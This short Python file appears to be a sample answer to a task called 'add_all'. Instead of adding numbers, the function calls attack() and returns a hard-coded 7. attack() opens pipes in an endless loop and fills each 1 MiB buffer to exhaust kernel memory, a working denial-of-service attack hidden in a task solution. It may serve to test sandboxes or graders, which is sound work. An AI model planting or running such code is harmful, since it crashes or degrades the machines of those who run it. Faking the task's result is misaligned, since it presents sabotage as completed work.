# task: add_all
# why: holds kernel memory in the buffers of many pipes
    attack()
    return 7


import fcntl
import os


def attack():
    try:
        while True:
            read, write = os.pipe()
            os.set_blocking(write, False)
            try:
                fcntl.fcntl(write, 1031, 2**20)  # F_SETPIPE_SZ
            except OSError:
                pass
            os.write(write, b"x" * 2**20)
    except OSError:
        pass
